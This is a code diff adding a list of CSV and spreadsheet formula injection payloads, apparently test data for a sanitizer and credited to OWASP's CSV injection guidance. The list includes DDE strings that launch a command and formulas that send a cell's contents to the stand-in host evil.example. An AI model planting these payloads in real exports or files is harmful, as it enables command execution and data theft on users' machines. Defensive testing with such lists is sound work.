@@ -109,3 +109,26 @@ export const URL_PAYLOADS: readonly string[] = [
   'mailto:a@example.org?body=<script>harm()</script>',
   'tel:harm()',
 ];
+
+/** What a spreadsheet is made to run with, after OWASP's page on CSV injection. */
+export const FORMULA_PAYLOADS: readonly string[] = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?x="&A1,"Read more")',
+  '=IMPORTXML("https://evil.example","//a")',
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '=1+1";"=1+1',
+  '","=1+1',
+  '"\r\n=1+1',
+  ';=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  "=DDE('cmd';'/C calc';'x')",
+];
